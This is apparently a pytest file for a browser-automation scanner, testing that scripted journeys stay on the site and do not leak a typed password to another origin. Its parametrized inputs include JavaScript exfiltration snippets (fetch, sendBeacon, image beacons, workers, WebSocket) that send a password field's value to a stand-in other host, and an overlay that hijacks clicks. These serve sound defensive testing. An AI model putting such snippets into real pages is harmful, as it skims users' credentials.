"""Tests for what a journey may not do: leave the site, or send a secret elsewhere."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from msgspec import Struct

from tests.targets.server import Answer, Request, Site
from tests.website_scan.browser.journey.walks import css, named, page, require_done, walk
from website_scan.browser.journey.request import site_addresses
from website_scan.browser.journey.result import Walk
from website_scan.browser.warm import WarmBrowser
from website_scan.journeys.journey import (
    Change,
    Click,
    Hover,
    Journey,
    KeyDown,
    KeyUp,
    Navigate,
    Step,
    WaitForElement,
)
from website_scan.journeys.walk import StepStatus

SECRET = "correct-horse-7"
FORM = '<form method=post action="ACTION"><input id=p type=password name=p autofocus><button>Sign in</button></form>'


class Sites(Struct):
    """The journey's site, and another one on the same machine."""

    own: Site
    other: Site

    @property
    def elsewhere(self) -> str:
        return self.other.url_as("localhost")

    def received_secret(self) -> bool:
        """Return True if the other site has received the secret."""
        return any(
            SECRET in request.path + request.body.decode() + str(request.headers) for request in self.other.requests
        )


@pytest.fixture
def sites() -> Iterator[Sites]:
    with Site() as own, Site({"*": page("<p>Elsewhere</p>")}) as other:
        yield Sites(own, other)


def walk_sites(browser: WarmBrowser, sites: Sites, body: str, *steps: Step, **options: Any) -> Walk:
    sites.own.routes["/"] = page(body.replace("ELSEWHERE", sites.elsewhere))
    return walk(browser, f"{sites.own.url}/", *steps, secrets={"password": SECRET}, **options)


TYPE = Change(target=css("#p"), value="{{password}}", timeout_s=2.0)
LEAVES = "Step 2: the page would have opened http://localhost:"


@pytest.mark.parametrize(
    "body",
    [
        "<a id=go href=ELSEWHERE/x>Go</a>",
        "<form id=f action=ELSEWHERE/x><button id=go>Go</button></form>",
        "<form method=post action=ELSEWHERE/x><button id=go>Go</button></form>",
        "<button id=go onclick=\"location.href = 'ELSEWHERE/x'\">Go</button>",
        "<a id=go href=/redirect>Go</a>",
        "<a id=go href=/redirects>Go</a>",
    ],
)
def test_page_does_not_leave_the_site(browser: WarmBrowser, sites: Sites, body: str) -> None:
    sites.own.routes |= {
        "/redirect": Answer.redirect(f"{sites.elsewhere}/x"),
        "/redirects": Answer.redirect("/redirect", 307),
    }
    result = walk_sites(browser, sites, body, Click(target=css("#go"), timeout_s=3.0))
    assert result.steps[1].status is StepStatus.FAILED
    assert result.steps[1].problem.startswith(LEAVES)
    assert result.steps[1].problem.endswith("If it is the place of log-in, the journey has to name it.")
    assert sites.other.requests == []


def test_journey_does_not_open_another_site(browser: WarmBrowser, sites: Sites) -> None:
    result = walk_sites(browser, sites, "<p>Hello", Navigate(url=f"{sites.elsewhere}/x"))
    assert result.steps[1].problem == f"Step 2: {sites.elsewhere} is not part of the site."
    assert sites.other.requests == []


def test_redirect_of_an_opened_address_does_not_leave_the_site(browser: WarmBrowser, sites: Sites) -> None:
    sites.own.routes["/out"] = Answer.redirect(f"{sites.elsewhere}/x")
    result = walk_sites(browser, sites, "<p>Hello", Navigate(url="/out"))
    assert result.steps[1].problem.startswith(LEAVES)
    assert sites.other.requests == []


def test_named_identity_provider_is_allowed(browser: WarmBrowser, sites: Sites) -> None:
    sites.own.routes["/login"] = Answer.redirect(f"{sites.elsewhere}/form")
    sites.other.routes = {"/form": page(FORM.replace("ACTION", f"{sites.own.url}/in"))}
    received: list[Request] = []
    sites.own.routes["/in"] = lambda request: received.append(request) or page("<p>Welcome</p>")  # type: ignore[func-returns-value]
    steps = (Click(target=named("Log in")), TYPE, Click(target=named("Sign in")), WaitForElement(target=css("p")))
    require_done(walk_sites(browser, sites, "<a href=/login>Log in</a>", *steps, identity_providers=("localhost",)))
    assert received[0].body.decode() == f"p={SECRET}"


def test_form_to_another_site_is_not_sent(browser: WarmBrowser, sites: Sites) -> None:
    body = FORM.replace("ACTION", "ELSEWHERE/steal")
    result = walk_sites(browser, sites, body, TYPE, Click(target=named("Sign in"), timeout_s=3.0))
    assert result.steps[2].problem.startswith("Step 3: the page would have opened http://localhost:")
    assert sites.other.requests == []


@pytest.mark.parametrize(
    "script",
    [
        "fetch('ELSEWHERE/x', {method: 'POST', mode: 'no-cors', body: p.value})",
        "fetch('ELSEWHERE/x?' + encodeURIComponent(p.value), {mode: 'no-cors'})",
        "fetch('ELSEWHERE/x', {method: 'POST', mode: 'no-cors', body: btoa('user:' + p.value)})",
        "navigator.sendBeacon('ELSEWHERE/x', p.value)",
        "const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'ELSEWHERE/x?' + p.value;"
        " document.head.append(link)",
        "const script = `fetch('ELSEWHERE/x?${p.value}', {mode: 'no-cors'})`;"
        " new Worker(window.URL.createObjectURL(new Blob([script])))",
        "const script = `fetch('ELSEWHERE/x?${p.value}', {mode: 'no-cors'})`;"
        " new SharedWorker(window.URL.createObjectURL(new Blob([script])))",
        "new Image().src = 'ELSEWHERE/x?p=' + p.value",
        "fetch('ELSEWHERE/x', {method: 'POST', mode: 'no-cors', body: new FormData(document.forms[0])})",
        "const form = document.forms[0]; form.target = 'inner'; form.action = 'ELSEWHERE/x'; form.submit()",
    ],
)
def test_script_does_not_send_a_secret_to_another_site(browser: WarmBrowser, sites: Sites, script: str) -> None:
    script = f"<script>document.getElementById('go').onclick = () => {{ {script} }}</script>"
    body = FORM.replace("ACTION", "/in") + f'<iframe name=inner></iframe><a href="#" id=go>Go</a>{script}'
    # A worker may start so late that the click is done before it sends the secret.
    steps = (TYPE, Click(target=css("#go"), timeout_s=3.0), WaitForElement(target=css("#never"), timeout_s=20.0))
    result = walk_sites(browser, sites, body, *steps)
    (problem,) = [step.problem for step in result.steps if step.problem]
    assert re.match(r"Step [34]: the page would have sent a secret to http://localhost:", problem)
    assert not sites.received_secret()


def test_secret_in_a_message_to_another_site_fails_the_step(browser: WarmBrowser, sites: Sites) -> None:
    script = "new WebSocket('ELSEWHERE/x?'.replace('http', 'ws') + document.forms[0].p.value)"
    body = FORM.replace("ACTION", "/in") + f'<button id=go onclick="{script}">Go</button>'
    result = walk_sites(browser, sites, body, TYPE, Click(target=css("#go"), timeout_s=3.0))
    assert result.steps[2].problem.startswith("Step 3: the page has sent a secret to ws://localhost:")
    assert SECRET not in repr(result)


def test_other_sites_are_loaded_as_by_any_page(browser: WarmBrowser, sites: Sites) -> None:
    body = "<iframe src=ELSEWHERE/frame></iframe><img src=ELSEWHERE/image alt=''>"
    require_done(walk_sites(browser, sites, body))
    assert {"/frame", "/image"} <= set(sites.other.paths())


def test_short_secret_that_another_address_contains_by_chance_is_no_leak(browser: WarmBrowser, sites: Sites) -> None:
    button = "<button id=go onclick=\"fetch('ELSEWHERE/1234.js', {mode: 'no-cors'})\">Go</button>"
    body = FORM.replace("ACTION", "/in") + button
    sites.own.routes["/"] = page(body.replace("ELSEWHERE", sites.elsewhere))
    steps = (Change(target=css("#p"), value="{{pin}}"), Click(target=css("#go")))
    require_done(walk(browser, f"{sites.own.url}/", *steps, secrets={"pin": "1234"}))
    assert "/1234.js" in sites.other.paths()


FOREIGN = "<iframe src=ELSEWHERE/form style='width: 500px; height: 300px'></iframe>"


@pytest.mark.parametrize(
    "step",
    [
        Change(target=css("#p", 0), value="{{password}}", timeout_s=2.0),
        Change(target=css("#p", 0), value="harmless", timeout_s=2.0),
        Click(target=css("button", 0), timeout_s=2.0),
        Hover(target=css("button", 0), timeout_s=2.0),
        KeyDown(key="x"),
    ],
)
def test_frame_of_another_site_receives_no_input(browser: WarmBrowser, sites: Sites, step: Step) -> None:
    sites.other.routes = {
        "/form": page(FORM.replace("ACTION", "/x") + "<script>onclick = onkeydown = () => fetch('/x')</script>")
    }
    body = FOREIGN + "<script>onload = () => document.querySelector('iframe').focus()</script>"
    result = walk_sites(browser, sites, body, step)
    expected = f"Step 2: the element is in a document of {sites.elsewhere}, which is not part of the site."
    assert result.steps[1].problem == expected
    assert sites.other.paths() == ["/form"]


def test_sandboxed_frame_of_the_site_receives_input(browser: WarmBrowser, sites: Sites) -> None:
    sites.own.routes["/inner"] = page("<input id=p>")
    body = "<iframe sandbox=allow-scripts src=/inner></iframe>"
    require_done(walk_sites(browser, sites, body, Change(target=css("#p", 0), value="x")))


def test_sandboxed_document_without_an_address_receives_no_input(browser: WarmBrowser, sites: Sites) -> None:
    body = "<iframe sandbox srcdoc='<input id=p>'></iframe>"
    result = walk_sites(browser, sites, body, Change(target=css("#p", 0), value="x", timeout_s=2.0))
    assert "is in a document of about:srcdoc, which is not part of the site" in result.steps[1].problem


def test_page_replaced_while_typing_receives_no_secret(browser: WarmBrowser, sites: Sites) -> None:
    """After the first character, the page opens another one whose field has the focus."""
    sites.own.routes["/trap"] = page(
        FORM.replace("ACTION", "/x") + "<script>p.oninput = () => fetch('/got?' + p.value)</script>"
    )
    body = FORM.replace("ACTION", "/in") + "<script>p.oninput = () => { location.href = '/trap' }</script>"
    result = walk_sites(browser, sites, body, TYPE)
    assert result.steps[1].status is StepStatus.FAILED
    assert result.steps[1].problem.startswith("Step 2: the page ")
    assert not [path for path in sites.own.paths() if path.startswith("/got")]


def test_moved_focus_receives_no_secret(browser: WarmBrowser, sites: Sites) -> None:
    body = FORM.replace("ACTION", "/in") + "<input id=other><script>p.oninput = () => other.focus()</script>"
    result = walk_sites(browser, sites, body, TYPE)
    assert result.steps[1].problem == "Step 2: the page moved the focus while a secret was typed."


def test_javascript_links_of_the_page_work(browser: WarmBrowser, sites: Sites) -> None:
    body = "<a href=\"javascript:void(document.title = 'Hi')\">Go</a>"
    is_changed = WaitForElement(target=css("title"), properties=(("text", "Hi"),))
    require_done(walk_sites(browser, sites, body, Click(target=named("Go")), is_changed))


def test_page_that_opens_a_blob_is_not_acted_on(browser: WarmBrowser, sites: Sites) -> None:
    script = "location.href = window.URL.createObjectURL(new Blob(['<p>Blob'], {type: 'text/html'}))"
    body = f'<button onclick="{script}">Go</button>'
    result = walk_sites(browser, sites, body, Click(target=named("Go")), KeyDown(key="a"), KeyUp(key="a"))
    assert "the page has opened blob:http://127.0.0.1" in result.steps[1].problem


def test_cover_that_appears_at_the_last_moment_receives_no_click(browser: WarmBrowser, sites: Sites) -> None:
    body = """<button>Buy</button><script>
    addEventListener('pointermove', () => {
      const ad = '<a id=ad href=ELSEWHERE/ad style="position: fixed; inset: 0">Ad</a>';
      document.body.insertAdjacentHTML('beforeend', ad);
    });</script>"""
    result = walk_sites(browser, sites, body, Click(target=named("Buy", "button"), timeout_s=2.0))
    assert "the button “Buy” is covered by <a" in result.steps[1].problem
    assert sites.other.requests == []


@pytest.mark.parametrize(
    ("start", "address", "is_allowed"),
    [
        ("https://www.example.com/", "https://login.example.com/x", True),
        ("https://www.example.com/", "http://www.example.com/", False),
        ("https://www.example.com/", "https://example.com.evil.example/", False),
        ("https://www.example.com/", "https://idp.example.net/authorize", True),
        ("https://www.example.com/", "https://other.example.net/", False),
        ("http://www.example.com/", "https://www.example.com/", True),
        ("https://a.github.io/", "https://b.github.io/", False),
        ("https://www.example.com/", "javascript:alert(1)", False),
        ("https://www.example.com/", "blob:https://www.example.com/1", False),
        ("https://www.example.com/", "no address", False),
    ],
)
def test_site_and_identity_providers_are_allowed(start: str, address: str, is_allowed: bool) -> None:
    journey = Journey("Test", (Navigate(url=start),), identity_providers=("idp.example.net",))
    assert site_addresses(journey)(address) is is_allowed
